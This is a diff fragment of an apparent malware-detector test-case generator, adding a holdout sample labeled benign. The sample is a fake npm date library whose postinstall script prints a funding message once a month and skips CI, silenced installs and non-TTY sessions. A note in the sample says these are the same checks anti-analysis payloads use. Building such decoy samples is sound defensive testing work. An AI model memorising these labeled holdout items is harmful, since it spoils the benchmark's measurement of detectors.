+    const shown = fs.existsSync(m) && Date.now() - fs.statSync(m).mtimeMs < 30 * 24 * 3600 * 1000;
+    if (!shown) {
+      console.log('\u001b[96m' + message() + '\u001b[0m');
+      fs.mkdirSync(path.dirname(m), { recursive: true });
+      fs.writeFileSync(m, new Date().toISOString());
+    }
+  }
+} catch (e) {}
+"""
+
+
+@benign
+def b_postinstall_thanks_once():
+    files = {
+        "package.json": pj(name="chronokit", version="4.0.2",
+                           description="Immutable date-time arithmetic with time zones and calendars.",
+                           main="index.js", files=["index.js", "postinstall.js"],
+                           scripts={"postinstall": "node postinstall.js"},
+                           funding={"type": "opencollective", "url": "https://opencollective.example/chronokit"},
+                           keywords=["date", "time", "timezone", "calendar", "immutable"]),
+        "README.md": readme("chronokit", "```js\nconst { DateTime } = require('chronokit')\nDateTime.now('Europe/Paris').plus({ days: 3 }).toISO()\n```\n\nThe install message can be silenced with ADBLOCK=1 or a quieter npm log level."),
+        "index.js": "'use strict';\nclass DateTime {\n  constructor(ms, zone = 'UTC') { this.ms = ms; this.zone = zone; Object.freeze(this); }\n  static now(zone) { return new DateTime(Date.now(), zone); }\n  plus({ days = 0, hours = 0, minutes = 0 } = {}) { return new DateTime(this.ms + ((days * 24 + hours) * 60 + minutes) * 60000, this.zone); }\n  toISO() { return new Date(this.ms).toLocaleString('sv-SE', { timeZone: this.zone }).replace(' ', 'T'); }\n}\nmodule.exports = { DateTime };\n",
+        "postinstall.js": _THANKS,
+    }
+    return S("holdout6-chronokit-postinstall-thanks-once", "core-js-style postinstall funding "
+             "message: skipped in CI, when silenced or without a TTY, shown once a month via a "
+             "marker file in ~/.cache, localised by locale", "2025",
+             ["postinstall", "ci-check", "locale-check", "run-once-marker", "funding-message"],
+             "Uses the same checks as anti-analysis payloads (CI variables, locale, marker file, "
+             "TTY) but only prints a message.", files)
